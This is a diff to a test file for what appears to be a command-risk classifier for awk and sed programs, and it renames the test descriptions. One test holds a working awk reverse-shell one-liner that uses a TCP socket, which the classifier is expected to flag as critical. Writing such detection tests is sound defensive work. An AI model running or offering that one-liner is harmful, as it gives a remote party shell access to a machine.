@@ -23,7 +23,7 @@ test.each([
   expect(awk(code)).toBe(expected);
 });
 
-test("an awk program that runs commands for another machine is critical", () => {
+test("an awk reverse shell is critical", () => {
   expect(
     awk('BEGIN{s="/inet/tcp/0/h/1"; while(1){s |& getline c; while((c |& getline)>0) print |& s}}'),
   ).toContain("danger critical");
@@ -36,7 +36,7 @@ test.each([
   '/system\\(/ {print "system(x)"} # system("x")',
   'BEGIN{print ENVIRON["HOME"], 4/2, /a"b/ ? 1 : 2}',
   "{ if ($1 > 5) print $2; else print $3 }",
-])("awk that computes: %s", (code) => {
+])("awk that only computes has no effect: %s", (code) => {
   expect(awk(code)).toBe("");
 });
 
@@ -75,6 +75,6 @@ test.each([
   "/foo/I,+3d",
   "s/e/w/;s/[^/]*$//",
   "s/a/b/w /dev/stdout",
-])("sed that only changes its output: %s", (code) => {
+])("sed that only changes its output has no effect: %s", (code) => {
   expect(sed(code)).toBe("");
 });
